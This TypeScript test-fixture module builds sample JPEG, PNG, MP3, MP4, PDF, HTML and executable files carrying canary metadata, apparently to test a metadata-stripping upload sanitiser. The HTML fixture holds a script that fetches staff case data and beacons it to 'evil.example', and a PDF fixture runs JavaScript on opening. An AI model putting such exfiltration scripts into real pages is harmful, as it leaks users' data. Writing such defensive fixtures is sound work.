/**
 * Real files, built byte by byte for the tests: a decodable 8×8 baseline JPEG
 * carrying EXIF with a GPS position (and XMP, IPTC, comments, a thumbnail and a
 * trailer), a 2×2 PNG with every kind of text and EXIF chunk, and small MP3,
 * MP4, PDF, HTML and program files. No tool or binary fixture is needed.
 */
import { deflateSync } from "node:zlib";
import { crc32 } from "./strip.js";

/** Bytes backed by a plain ArrayBuffer, so they can go straight into a File or a Response. */
export type Bytes = Uint8Array<ArrayBuffer>;

const text = (s: string): Bytes => new Uint8Array(Buffer.from(s, "latin1"));
export const bytesOf = (...parts: (Uint8Array | number[] | string)[]): Bytes =>
  new Uint8Array(Buffer.concat(parts.map((p) => (typeof p === "string" ? text(p) : Uint8Array.from(p)))));
const u16be = (n: number) => [(n >> 8) & 0xff, n & 0xff];
const u32be = (n: number) => [(n >>> 24) & 0xff, (n >>> 16) & 0xff, (n >>> 8) & 0xff, n & 0xff];

/** Canary values: none may survive stripping. */
export const CANARY = {
  make: "CanaryCam",
  model: "Canary Phone 9",
  // 39°05'43.21"N 94°34'87.65"W as EXIF rationals, little-endian.
  latitude: [39, 1, 5, 1, 4321, 100],
  longitude: [94, 1, 34, 1, 8765, 100],
  xmp: "canary-xmp-creator Jane Canary",
  iptc: "Canary Byline",
  comment: "canary comment: taken by J. Canary",
  thumbnail: [0xca, 0x4a, 0x17, 0xca, 0x4a, 0x17, 0xca, 0x4a, 0x17],
  trailer: "canary trailer: second image with its own Exif",
  pngText: "Canary Person",
  pngZtxt: "canary ztxt GPS 39.0953 -94.5743",
  pngItxt: "canary itxt xmp",
  privateChunk: "canary private chunk",
};

/** The rationals as they appear in the file (8 bytes each, little-endian). */
export function rationalBytes(values: number[]): Bytes {
  const out = Buffer.alloc(values.length * 4);
  values.forEach((v, i) => out.writeUInt32LE(v, i * 4));
  return new Uint8Array(out);
}

/**
 * A little-endian TIFF/EXIF block: IFD0 with Make, Model, Orientation and a
 * pointer to a GPS IFD holding latitude and longitude.
 */
export function exifTiff(orientation = 6): Bytes {
  const make = `${CANARY.make}\0`;
  const model = `${CANARY.model}\0`;
  const ifd0 = 8;
  const ifd0Count = 4;
  const gps = ifd0 + 2 + ifd0Count * 12 + 4;
  const gpsCount = 4;
  const dataAt = gps + 2 + gpsCount * 12 + 4;
  const makeAt = dataAt;
  const modelAt = makeAt + make.length;
  const latAt = modelAt + model.length;
  const lonAt = latAt + 24;
  const size = lonAt + 24;
  const b = Buffer.alloc(size);
  b.write("II", 0, "latin1");
  b.writeUInt16LE(42, 2);
  b.writeUInt32LE(ifd0, 4);
  const entry = (at: number, tag: number, type: number, count: number, value: number | string) => {
    b.writeUInt16LE(tag, at);
    b.writeUInt16LE(type, at + 2);
    b.writeUInt32LE(count, at + 4);
    if (typeof value === "string") b.write(value, at + 8, "latin1");
    else if (type === 3) b.writeUInt16LE(value, at + 8);
    else b.writeUInt32LE(value, at + 8);
  };
  b.writeUInt16LE(ifd0Count, ifd0);
  entry(ifd0 + 2, 0x010f, 2, make.length, makeAt);
  entry(ifd0 + 14, 0x0110, 2, model.length, modelAt);
  entry(ifd0 + 26, 0x0112, 3, 1, orientation);
  entry(ifd0 + 38, 0x8825, 4, 1, gps);
  b.writeUInt32LE(0, ifd0 + 50);
  b.writeUInt16LE(gpsCount, gps);
  entry(gps + 2, 0x0001, 2, 2, "N\0");
  entry(gps + 14, 0x0002, 5, 3, latAt);
  entry(gps + 26, 0x0003, 2, 2, "W\0");
  entry(gps + 38, 0x0004, 5, 3, lonAt);
  b.writeUInt32LE(0, gps + 50);
  b.write(make, makeAt, "latin1");
  b.write(model, modelAt, "latin1");
  Buffer.from(rationalBytes(CANARY.latitude)).copy(b, latAt);
  Buffer.from(rationalBytes(CANARY.longitude)).copy(b, lonAt);
  return new Uint8Array(b);
}

const segment = (marker: number, payload: Uint8Array | number[] | string) => {
  const body = bytesOf(payload);
  return bytesOf([0xff, marker, ...u16be(body.length + 2)], body);
};

/**
 * The image itself: 8×8 grey, every sample mid-grey. DQT, SOF0, two one-code Huffman tables, one scan.
 * `size` changes only what the frame header claims (a crafted file).
 */
function jpegImageSegments(size = { width: 8, height: 8 }): Bytes {
  const dqt = segment(0xdb, [0x00, ...new Array(64).fill(1)]);
  const sof0 = segment(0xc0, [8, ...u16be(size.height), ...u16be(size.width), 1, 1, 0x11, 0]);
  const oneCode = (tableClassAndId: number) => segment(0xc4, [tableClassAndId, 1, ...new Array(15).fill(0), 0x00]);
  const sos = segment(0xda, [1, 1, 0x00, 0, 63, 0]);
  // DC difference 0 (code "0"), then end-of-block (code "0"); padded with ones.
  return bytesOf(dqt, sof0, oneCode(0x00), oneCode(0x10), sos, [0x3f]);
}

/** A plain JPEG: SOI, JFIF, the image, EOI; `size` is what its frame header claims. */
export function plainJpeg(size?: { width: number; height: number }): Bytes {
  return bytesOf([0xff, 0xd8], segment(0xe0, bytesOf("JFIF\0", [1, 1, 0, 0, 1, 0, 1, 0, 0])), jpegImageSegments(size), [0xff, 0xd9]);
}

/** The smallest well-formed ICC profile: a 128-byte header (grey display profile) and no tags. */
export function iccProfile(): Bytes {
  const b = Buffer.alloc(132);
  b.writeUInt32BE(132, 0);
  b.writeUInt32BE(0x04300000, 8);
  b.write("mntrGRAYXYZ ", 12, "latin1");
  b.write("acsp", 36, "latin1");
  return new Uint8Array(b);
}

/** A JPEG as a phone or an editor leaves it: every kind of metadata, around a decodable image. */
export function jpegWithMetadata(options: { orientation?: number } = {}): Bytes {
  const jfif = segment(0xe0, bytesOf("JFIF\0", [1, 2, 1, 0, 72, 0, 72, 1, 3], CANARY.thumbnail.slice(0, 9)));
  const jfxx = segment(0xe0, bytesOf("JFXX\0", [0x13, 1, 1], CANARY.thumbnail.slice(0, 3)));
  const exif = segment(0xe1, bytesOf("Exif\0\0", exifTiff(options.orientation ?? 6)));
  const xmp = segment(0xe1, bytesOf("http://ns.adobe.com/xap/1.0/\0", `<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:Description exif:GPSLatitude="39,5.72N" dc:creator="${CANARY.xmp}"/></x:xmpmeta>`));
  const icc = segment(0xe2, bytesOf("ICC_PROFILE\0", [1, 1], iccProfile()));
  const mpf = segment(0xe2, bytesOf("MPF\0", "MM\0*\0\0\0\x08 canary-mpf"));
  const photoshop = segment(0xed, bytesOf("Photoshop 3.0\0", "8BIM\x04\x04\0\0\0\0\0\x12\x1c\x02\x50\0\x0d", CANARY.iptc));
  const adobe = segment(0xee, bytesOf("Adobe", [0, 100, 0, 0, 0, 0, 1]));
  const app15 = segment(0xef, "canary app15");
  const com = segment(0xfe, CANARY.comment);
  return bytesOf([0xff, 0xd8], jfif, jfxx, exif, xmp, icc, mpf, photoshop, adobe, app15, com, jpegImageSegments(), [0xff, 0xd9], CANARY.trailer);
}

/** Markers of a JPEG, walked independently of the stripper: each segment's length must fit, and EOI must be the last two bytes. */
export function jpegMarkers(bytes: Uint8Array): { marker: number; payload: Uint8Array }[] {
  if (bytes[0] !== 0xff || bytes[1] !== 0xd8) throw new Error("no SOI");
  const found: { marker: number; payload: Uint8Array }[] = [{ marker: 0xd8, payload: new Uint8Array() }];
  let at = 2;
  while (at < bytes.length) {
    if (bytes[at] !== 0xff) throw new Error(`no marker at ${at}`);
    while (bytes[at + 1] === 0xff) at += 1; // fill bytes
    const marker = bytes[at + 1];
    if (marker === 0xd9) {
      found.push({ marker, payload: new Uint8Array() });
      if (at + 2 !== bytes.length) throw new Error(`${bytes.length - at - 2} bytes after EOI`);
      return found;
    }
    const length = (bytes[at + 2] << 8) | bytes[at + 3];
    if (length < 2 || at + 2 + length > bytes.length) throw new Error(`segment ${marker.toString(16)} at ${at} overruns`);
    found.push({ marker, payload: bytes.subarray(at + 4, at + 2 + length) });
    at += 2 + length;
    if (marker === 0xda) {
      while (at < bytes.length && !(bytes[at] === 0xff && bytes[at + 1] !== 0 && bytes[at + 1] !== 0xff && !(bytes[at + 1] >= 0xd0 && bytes[at + 1] <= 0xd7))) at += 1;
    }
  }
  throw new Error("no EOI");
}

// ---------------------------------------------------------------- PNG

const chunk = (type: string, data: Uint8Array | number[] | string) => {
  const body = bytesOf(data);
  const typed = bytesOf(type, body);
  return bytesOf(u32be(body.length), typed, u32be(crc32(typed)));
};

/** The pixels of the test PNG: 2×2 RGB, red, green / blue, white. */
export const PNG_PIXELS = [[255, 0, 0, 0, 255, 0], [0, 0, 255, 255, 255, 255]];

/**
 * A 2×2 RGB PNG with tEXt, zTXt, iTXt, eXIf (GPS), tIME, a private chunk and a trailer; gAMA and pHYs are kept.
 * `size` changes only what IHDR claims (a crafted file).
 */
export function pngWithMetadata(size = { width: 2, height: 2 }): Bytes {
  const ihdr = chunk("IHDR", [...u32be(size.width), ...u32be(size.height), 8, 2, 0, 0, 0]);
  const raw = bytesOf(...PNG_PIXELS.map((row) => [0, ...row]));
  const idat = deflateSync(raw);
  const half = Math.floor(idat.length / 2);
  return bytesOf(
    [0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a],
    ihdr,
    chunk("gAMA", u32be(45455)),
    chunk("tEXt", bytesOf("Author\0", CANARY.pngText)),
    chunk("zTXt", bytesOf("Comment\0", [0], deflateSync(Buffer.from(CANARY.pngZtxt)))),
    chunk("iTXt", bytesOf("XML:com.adobe.xmp\0", [0, 0], "\0\0", CANARY.pngItxt)),
    chunk("eXIf", exifTiff(1)),
    chunk("pHYs", [...u32be(2835), ...u32be(2835), 1]),
    chunk("tIME", [...u16be(2024), 5, 17, 14, 30, 0]),
    chunk("IDAT", idat.subarray(0, half)),
    chunk("IDAT", idat.subarray(half)),
    chunk("prVt", CANARY.privateChunk),
    chunk("tEXt", bytesOf("Comment\0", "after the image data ", CANARY.pngText)),
    chunk("IEND", []),
    CANARY.trailer,
  );
}

/** Chunks of a PNG, walked independently of the stripper, with each CRC checked. */
export function pngChunks(bytes: Uint8Array): { type: string; data: Uint8Array; crcOk: boolean }[] {
  const found: { type: string; data: Uint8Array; crcOk: boolean }[] = [];
  const view = Buffer.from(bytes.buffer, bytes.byteOffset, bytes.byteLength);
  let at = 8;
  while (at < bytes.length) {
    const length = view.readUInt32BE(at);
    const type = view.toString("latin1", at + 4, at + 8);
    const data = bytes.subarray(at + 8, at + 8 + length);
    found.push({ type, data, crcOk: crc32(bytes.subarray(at + 4, at + 8 + length)) === view.readUInt32BE(at + 8 + length) });
    at += 12 + length;
    if (type === "IEND") {
      if (at !== bytes.length) throw new Error(`${bytes.length - at} bytes after IEND`);
      break;
    }
  }
  return found;
}

// ---------------------------------------------------------------- other files

/** Two MPEG-1 layer III frames (128 kbit/s, 44.1 kHz, 417 bytes each) after an ID3v2.4 tag. */
export function mp3(): Bytes {
  const frame = bytesOf([0xff, 0xfb, 0x90, 0x00], new Array(413).fill(0));
  const tagBody = bytesOf("TIT2", [0, 0, 0, 6, 0, 0, 3], "Title");
  const tag = bytesOf("ID3", [4, 0, 0, 0, 0, 0, tagBody.length], tagBody);
  return bytesOf(tag, frame, frame);
}

/** An `ftyp` box (major brand, version, compatible brands) and an empty `mdat`. An iPhone's .mov says "qt  " alone. */
export function mp4(brand = "isom", compatible = [brand, "mp41"]): Bytes {
  return bytesOf(u32be(16 + 4 * compatible.length), "ftyp", brand, u32be(0x200), ...compatible, u32be(8), "mdat");
}

/**
 * A one-page PDF (a line of text) that poppler renders. `extra` goes in as
 * written before the cross-reference table (comments, stray keys); `more` are
 * further objects, numbered from 6 and listed in the table; `catalog` and
 * `trailer` add entries to those dictionaries.
 */
export function pdf(extra = "", catalog = "", trailer = "", more: string[] = []): Bytes {
  const draw = "BT /F1 24 Tf 72 720 Td (Evidence page) Tj ET";
  const objects = [
    `1 0 obj << /Type /Catalog /Pages 2 0 R ${catalog}>> endobj\n`,
    "2 0 obj << /Type /Pages /Kids [3 0 R] /Count 1 >> endobj\n",
    "3 0 obj << /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 4 0 R >> >> /Contents 5 0 R >> endobj\n",
    "4 0 obj << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> endobj\n",
    `5 0 obj << /Length ${draw.length} >> stream\n${draw}\nendstream endobj\n`,
    ...more.map((body, i) => `${6 + i} 0 obj ${body} endobj\n`),
  ];
  let text = "%PDF-1.4\n";
  const offsets: number[] = [];
  for (const object of objects) {
    offsets.push(text.length);
    text += object;
  }
  text += extra;
  const xref = text.length;
  text += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${offsets.map((o) => `${String(o).padStart(10, "0")} 00000 n \n`).join("")}`;
  text += `trailer << /Size ${objects.length + 1} /Root 1 0 R ${trailer}>>\nstartxref\n${xref}\n%%EOF\n`;
  return bytesOf(text);
}

/**
 * A PDF carrying what a staff copy must not: JavaScript run on opening
 * (/OpenAction and /Names /JavaScript), a document action (/AA), an embedded
 * file, XMP metadata and an Info dictionary with /Author.
 */
export function pdfWithScripts(): Bytes {
  const stream = (dict: string, data: string) => `<< ${dict} /Length ${data.length} >> stream\n${data}\nendstream`;
  const more = [
    "<< /S /JavaScript /JS (app.alert\\('canary-script'\\)) >>",
    "<< /Names [(canary-js) 6 0 R] >>",
    stream("/Type /EmbeddedFile", "canary-payload"),
    "<< /Names [(canary.txt) << /Type /Filespec /F (canary.txt) /EF << /F 8 0 R >> >>] >>",
    stream("/Type /Metadata /Subtype /XML", "<x:xmpmeta>Jane Canary xmp author</x:xmpmeta>"),
    "<< /Author (Jane Canary) /Creator (Canary Phone Scanner) /Title (Canary medical record) >>",
  ];
  return pdf("", "/OpenAction 6 0 R /AA << /WC 6 0 R >> /Names << /JavaScript 7 0 R /EmbeddedFiles 9 0 R >> /Metadata 10 0 R ", "/Info 11 0 R ", more);
}

export const html = () => bytesOf("<!DOCTYPE html><html><body><script>fetch('/staff/cases').then(r=>r.text()).then(t=>navigator.sendBeacon('https://evil.example',t))</script></body></html>");
export const exe = () => bytesOf("MZ", [0x90, 0x00, 0x03, 0, 0, 0, 0x04, 0, 0, 0, 0xff, 0xff], new Array(50).fill(0), "PE\0\0");

/** Whether `needle` occurs anywhere in `haystack`. */
export function contains(haystack: Uint8Array, needle: Uint8Array | string): boolean {
  return Buffer.from(haystack.buffer, haystack.byteOffset, haystack.byteLength).includes(typeof needle === "string" ? Buffer.from(needle, "latin1") : Buffer.from(needle));
}
